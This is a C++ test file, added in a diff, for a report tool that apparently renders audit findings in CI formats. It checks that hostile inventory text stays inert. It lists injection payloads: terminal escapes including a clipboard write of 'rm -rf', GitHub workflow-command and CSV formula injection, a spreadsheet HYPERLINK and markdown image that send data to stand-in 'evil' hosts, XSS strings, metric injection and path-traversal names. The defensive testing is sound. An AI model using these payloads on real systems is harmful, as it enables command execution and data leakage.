@@ -1,0 +1,360 @@
+// The formats for other programs: somebody else's validator accepts each, whatever an inventory says, and nothing in it acts.
+#include <algorithm>
+#include <array>
+#include <map>
+#include <set>
+
+#include <fmt/format.h>
+#include <nlohmann/json.hpp>
+
+#include "catch.h"
+#include "report/repository_path.h"
+#include "stackdrag/baseline.h"
+#include "stackdrag/gate.h"
+#include "stackdrag/text.h"
+#include "support.h"
+
+using namespace stackdrag;
+using namespace stackdrag::tests;
+using nlohmann::json;
+
+namespace {
+
+const std::vector<std::string> ci_formats{"sarif", "junit", "github", "gitlab", "csv", "prometheus"};
+
+/// Texts that try to act in a terminal, a log, a browser, a spreadsheet, a table, a mention or a metric, as YAML writes them.
+const std::vector<std::string> attacks{
+    R"(\e[2J\e[Hscore 100)",
+    R"(\e[1A\e[2Kscore 100)",
+    R"(\e]8;;http://evil\e\\ok\e]8;;\e\\)",
+    R"(\e]52;c;cm0gLXJm\a)",
+    R"(\e]0;title\a)",
+    R"(\x9b2J\x9d0;t\x90q)",
+    R"(\r\b\b)",
+    R"(x\0y)",
+    R"(\x7f\x85)",
+    R"(a\tb\nc)",
+    R"(\u202Egpj.exe)",
+    R"(\u2066x\u2069\u200f\u061c)",
+    R"(\u2028::error::x\u2029)",
+    R"(\uFEFF\u200b\u2060)",
+    R"(\U000E0041)",
+    "::error::x",
+    "::stop-commands::x",
+    "::add-mask::a",
+    "x ##[add-matcher]f",
+    R"(##\u200d[add-matcher]f)",
+    "%0A::error::x",
+    "%0D%0A%25",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-2+3",
+    "+1",
+    R"(  =1)",
+    R"(\u00a0\u3000\uFF1Dcmd)",
+    R"(\uFF0B1)",
+    R"(\uFF201)",
+    R"(\t=1)",
+    R"(=HYPERLINK(\"http://e/?\"&A1,\"x\"))",
+    R"(\",=1,\")",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    R"(\" onmouseover=\"x)",
+    "]]>",
+    "<![CDATA[",
+    "&#27;&amp;",
+    "<!-- x -->",
+    "[x](javascript:alert(1))",
+    "![](https://evil/?id)",
+    "[x](1)",
+    "{0} {{1}}",
+    R"(\\[x\\](1))",
+    "a|b",
+    "``` ` ``",
+    "@org/team",
+    "#1 !5 GH-1",
+    "https://evil.example",
+    "$x$ :smile:",
+    R"(x\"} 1\nfake_metric 99)",
+    R"(x\\\"} 1)",
+    "   ",
+    "other",
+    "unowned",
+    "日本語 é 👩‍💻",
+};
+
+/// Names of files that mean something to somebody: to a URI, a shell, a spreadsheet, a log or a repository.
+const std::vector<std::string> file_names{
+    "a:b c#?.yaml",
+    "=x.yaml",
+    "../../up.yaml",
+    "/etc/../abs/x.yaml",
+    "./here//x.yaml",
+    "::error::,x=1.yaml",
+    "##[add-matcher]f.yaml",
+    "\x1b[31m.yaml",
+    "\xff.yaml",
+    "-",
+    "..",
+    "]]>&\".yaml",
+    "%0A::error::.yaml",
+    "日本\u202Eé.yaml",
+};
+
+/// An inventory that holds the text wherever a report may repeat one.
+std::string hostile_inventory(const std::string& attack) {
+  return fmt::format(
+      R"(version: 1
+stack: {{as_of: 2026-11-21, name: "{0}", currency: "{0}"}}
+conventions: {{pixel: {{pattern: "zz\\Q{0}\\E"}}, campaign: {{pattern: '^zz$'}}}}
+campaigns: {{c: {{name: "{0}", ends: 2026-01-31, owner: "{0}"}}}}
+pixels:
+  p:
+    name: "{0}"
+    owner: "{0}"
+    vendor: google-universal-analytics
+    for: "{0}"
+    sends: ["{0}", "{0}x"]
+    on: ["{0}"]
+  q: {{vendor: google-universal-analytics, purpose: "{0}", why: "{0}", account: "{0}", last_seen: 2026-11-20}}
+tools:
+  t: {{name: "{0}", owner: "{0}", vendor: "{0}", does: ["{0}"], status: "{0}"}}
+  u: {{does: ["{0}"], "{0}": 1}}
+waivers:
+  - {{rule: pixel-vendor-dead, on: q, reason: "the team said {0} for now", by: "{0}", until: 2027-01-31}}
+  - {{rule: no-owner, on: q, reason: "the team said {0} for now", kind: not-applicable, until: 2027-01-31}}
+  - {{rule: "{0}", on: "{0}", reason: "the team said {0} for now", until: 2027-01-31}}
+)",
+      attack);
+}
+
+/// Every second finding is known, the others are new for all causes, and something is gone.
+void compare_with_half(Report& report) {
+  Baseline baseline = baseline_of(report, {.as_of = report.as_of});
+  for (std::size_t at = 0; at < baseline.findings.size(); ++at)
+    baseline.findings.erase(baseline.findings.begin() + static_cast<std::ptrdiff_t>(at));
+  baseline.findings.push_back({"no-owner", "tool/\x1b[31mgone", "=key", {}, ""});
+  std::sort(baseline.findings.begin(), baseline.findings.end());
+  compare(report, baseline);
+  std::size_t cause = 0;
+  for (ReportedFinding& finding : report.findings) {
+    if (finding.novelty == Novelty::fresh) finding.cause = static_cast<Cause>(cause++ % cause_count);
+  }
+  decide_gate(report, {.fail_on = Severity::medium});
+}
+
+std::string render(std::string_view name, const Report& report) {
+  for (const Format& format : formats()) {
+    if (format.name == name) return collected([&](Output& out) { format.render(report, {.all = true, .verbose = true}, out); });
+  }
+  FAIL("no format " << name);
+  return "";
+}
+
+/// Writes the report in every format, and keeps the paths by format.
+class Reports {
+ public:
+  void add(const std::string& name, const Report& report) {
+    for (const Format& format : formats()) {
+      paths_[std::string(format.name)].push_back(fmt::format("{}/{}.{}", folder_, name, format.name));
+      write_text(paths_[std::string(format.name)].back(), render(format.name, report));
+    }
+  }
+  void check() const {
+    for (const auto& [format, paths] : paths_) {
+      const Ran ran =
+          run(fmt::format("env -i PATH=/usr/local/bin:/opt/homebrew/bin:/usr/bin:/bin LC_ALL=C.UTF-8 PYTHONDONTWRITEBYTECODE=1 "
+                          "python3 tests/formats/check.py {} {}",
+                          format, fmt::join(paths, " ")));
+      INFO(ran.out << ran.err);
+      CHECK(ran.exit == 0);
+      CHECK(ran.out.find("refused") == std::string::npos);
+      CHECK(std::count(ran.out.begin(), ran.out.end(), '\n') == static_cast<std::ptrdiff_t>(paths.size()));
+    }
+  }
+
+ private:
+  std::string folder_ = fresh_folder("formats");
+  std::map<std::string, std::vector<std::string>> paths_;
+};
+
+bool contains(const std::string& text, const std::string& part) { return text.find(part) != std::string::npos; }
+
+Report acme() { return *audit_text(read_text(source_dir() + "/examples/acme/stack.yaml")).report; }
+
+std::size_t count_of_lines(const std::string& text, const std::string& beginning) {
+  std::size_t count = 0;
+  for (std::size_t at = 0; at != std::string::npos; at = text.find('\n', at + 1))
+    count += text.compare(at == 0 ? 0 : at + 1, beginning.size(), beginning) == 0 ? 1 : 0;
+  return count;
+}
+
+}  // namespace
+
+TEST_CASE("no text of an inventory acts in a report of any format, and all stay valid") {
+  Reports reports;
+  for (std::size_t at = 0; at < attacks.size(); ++at) {
+    Sources sources;
+    sources.add(file_names[at % file_names.size()], hostile_inventory(attacks[at]));
+    Settings settings;
+    settings.today = make_date(2026, 11, 21);
+    settings.profile = Profile::full;
+    Outcome outcome = audit(sources, settings);
+    INFO(attacks[at] << "\n" << render_problems(outcome.problems, false));
+    REQUIRE(outcome.report);
+    Report& report = *outcome.report;
+    CHECK(report.findings.size() > 6);
+    CHECK(std::any_of(report.findings.begin(), report.findings.end(), [](const auto& finding) { return finding.waiver != nullptr; }));
+    reports.add(fmt::format("{}", at), report);
+    if (at % 4 != 0) continue;
+    compare_with_half(report);
+    reports.add(fmt::format("{}-compared", at), report);
+  }
+  reports.check();
+}
+
+TEST_CASE("the reports of real inventories are valid in every format") {
+  Reports reports;
+  for (const std::string name : {"ten-lines/stack.yaml", "acme/stack.yaml", "start-up/stack.yaml", "harbour-home/pixels.yaml"})
+    reports.add(name.substr(0, name.find('/')), *audit_text(read_text(source_dir() + "/examples/" + name)).report);
+  Report compared = acme();
+  compare_with_half(compared);
+  reports.add("compared", compared);
+  Report filtered = acme();
+  filter(filtered, {"zombies"}, {}, {"unowned"});
+  reports.add("filtered", filtered);
+  reports.add("empty", *audit_text("").report);
+  reports.add("mistakes", *audit_text("tools: {a: {onwer: ana, renews: 2026-02-30}, b: {status: retierd}}\n").report);
+  reports.check();
+}
+
+TEST_CASE("the example prints what is recorded, in every format for other programs") {
+  for (const std::string& format : ci_formats) {
+    INFO(format);
+    const Ran ran = run("$S audit examples/acme --format " + format);
+    CHECK(ran.err.empty());
+    CHECK(is_recorded(source_dir() + "/tests/golden/acme." + format, ran.out));
+  }
+}
+
+TEST_CASE("each format shows each finding, folded and waived ones too") {
+  Report report = acme();
+  REQUIRE_FALSE(report.findings.empty());
+  const std::string sarif = render("sarif", report), junit = render("junit", report), gitlab = render("gitlab", report),
+                    csv = render("csv", report);
+  for (const ReportedFinding& finding : report.findings) {
+    const std::string fingerprint = fmt::format("{:016x}", finding.fingerprint);
+    INFO(finding.rule->id << " " << finding.subject);
+    CHECK(contains(sarif, "\"" + fingerprint + "\""));
+    CHECK(contains(gitlab, "\"" + fingerprint + "\""));
+    CHECK(contains(csv, "\"" + fingerprint + "\""));
+    CHECK(contains(junit, fmt::format("name=\"{}: {}", finding.rule->id, finding.subject)));
+  }
+  CHECK(json::parse(sarif)["runs"][0]["results"].size() == report.findings.size());
+  CHECK(json::parse(gitlab).size() == report.findings.size());
+
+  std::size_t counted = 0;
+  const std::string metrics = render("prometheus", report);
+  for (std::size_t at = metrics.find("\nstackdrag_findings{"); at != std::string::npos; at = metrics.find("\nstackdrag_findings{", at + 1))
+    counted += std::stoul(metrics.substr(metrics.find("} ", at) + 2));
+  CHECK(counted == report.findings.size());
+
+  report.findings.resize(8);
+  const std::string github = render("github", report);
+  CHECK(count_of_lines(github, "::") == 9);
+  for (const ReportedFinding& finding : report.findings)
+    CHECK(contains(github, fmt::format("title={} ({})::", finding.rule->id, name_of(finding.severity))));
+}
+
+TEST_CASE("formats and filters never change the exit code") {
+  const std::string folder = fresh_folder("exit");
+  write_text(folder + "/mistakes.yaml", "version: 1\nstack: {as_of: 2026-11-21}\ntools: {a: {onwer: ana}}\n");
+  const std::vector<std::pair<std::string, int>> audits{
+      {"examples/acme", 1}, {"examples/acme --fail-on never", 0}, {"examples/start-up", 0}, {folder + "/mistakes.yaml", 2}};
+  for (const std::string& format : ci_formats) {
+    for (const auto& [arguments, exit] : audits) {
+      for (const std::string filter : {"", " --select zombies", " --ignore zombies --owner unowned"}) {
+        INFO(format << " " << arguments << filter);
+        CHECK(run("$S audit --format " + format + " " + arguments + filter).exit == exit);
+      }
+    }
+  }
+}
+
+TEST_CASE("what is waived, known or new is told apart") {
+  Sources sources;
+  sources.add("stack.yaml", hostile_inventory("Ana"));
+  Settings settings;
+  settings.today = make_date(2026, 11, 21);
+  Report report = *audit(sources, settings).report;
+  compare_with_half(report);
+  const json results = json::parse(render("sarif", report))["runs"][0]["results"];
+  std::map<std::string, std::size_t> states;
+  std::size_t suppressed = 0;
+  for (const json& result : results) {
+    ++states[result["baselineState"]];
+    for (const json& suppression : result["suppressions"]) {
+      ++suppressed;
+      CHECK(suppression["justification"] == "the team said Ana for now");
+    }
+  }
+  CHECK(states["unchanged"] > 0);
+  CHECK(states["new"] > 0);
+  CHECK(suppressed == 2);
+  const std::string junit = render("junit", report);
+  for (const std::string part :
+       {"<skipped message=\"waived, accepted by Ana", "<skipped message=\"known\"", "<testcase classname=\"stackdrag.inventory\""})
+    CHECK(contains(junit, part));
+  CHECK(contains(render("gitlab", report), "(waived, accepted by Ana"));
+  CHECK(contains(render("prometheus", report), "\nstackdrag_waived_findings 2\n"));
+  CHECK(contains(render("prometheus", report), "\nstackdrag_baseline_gone 1\n"));
+}
+
+TEST_CASE("a report of any size stays within what its readers take") {
+  Report report = acme();
+  const ReportedFinding finding = report.findings.front();
+  const std::vector<RelatedPlace> places(150, {"here, too", finding.location});
+  report.findings.assign(25'010, finding);
+  report.findings.front().related = places;
+  report.totals.by_owner.clear();
+  std::vector<std::string> names;
+  for (int i = 0; i < 80; ++i) names.push_back(fmt::format("owner-{}", i));
+  names.insert(names.end(), {"other", "\x1b", "\\u{1b}"});
+  for (std::size_t i = 0; i < names.size(); ++i) report.totals.by_owner[names[i]].findings = 1 + i;
+  const json run = json::parse(render("sarif", report))["runs"][0];
+  CHECK(run["results"].size() == 25'000);
+  CHECK(run["results"][0]["relatedLocations"].size() == 100);
+  CHECK(contains(run["invocations"][0]["toolExecutionNotifications"][0]["message"]["text"], "10 findings are left out"));
+  std::set<std::string> fingerprints;
+  const json violations = json::parse(render("gitlab", report));
+  for (const json& violation : violations) fingerprints.insert(violation["fingerprint"]);
+  CHECK(fingerprints.size() == report.findings.size());
+  const std::string github = render("github", report);
+  CHECK(count_of_lines(github, "::error") == 10);
+  CHECK(contains(github, "%0Aannotated 9 of 25010 errors"));
+  const std::string metrics = render("prometheus", report);
+  CHECK(count_of_lines(metrics, "stackdrag_findings_by_owner{") <= 51);
+  CHECK(count_of_lines(metrics, "stackdrag_findings_by_owner{owner=\"other\"}") == 1);
+  CHECK(count_of_lines(metrics, "stackdrag_findings_by_owner{owner=\"\\\\u{1b}\"} 165") == 1);
+}
+
+TEST_CASE("a path becomes one of the repository, and a URI that GitHub takes") {
+  using report::repository_path, report::repository_uri;
+  const std::vector<std::array<std::string, 3>> paths{
+      {"stack.yaml", "stack.yaml", "stack.yaml"},
+      {"./a//b/../c.yaml", "a/c.yaml", "a/c.yaml"},
+      {"/x/y.yaml", "x/y.yaml", "x/y.yaml"},
+      {"../../up.yaml", "up.yaml", "up.yaml"},
+      {"a:b c#?.yaml", "a:b c#?.yaml", "./a:b%20c%23%3F.yaml"},
+      {"x/a:b.yaml", "x/a:b.yaml", "x/a:b.yaml"},
+      {"\xff\n%.yaml", "\xff\n%.yaml", "%FF%0A%25.yaml"},
+      {"é.yaml", "é.yaml", "%C3%A9.yaml"},
+      {"", "stack.yaml", "stack.yaml"},
+      {"..", "stack.yaml", "stack.yaml"},
+  };
+  for (const auto& [given, path, uri] : paths) {
+    INFO(given);
+    CHECK(repository_path(given) == path);
+    CHECK(repository_uri(given) == uri);
+  }
+}
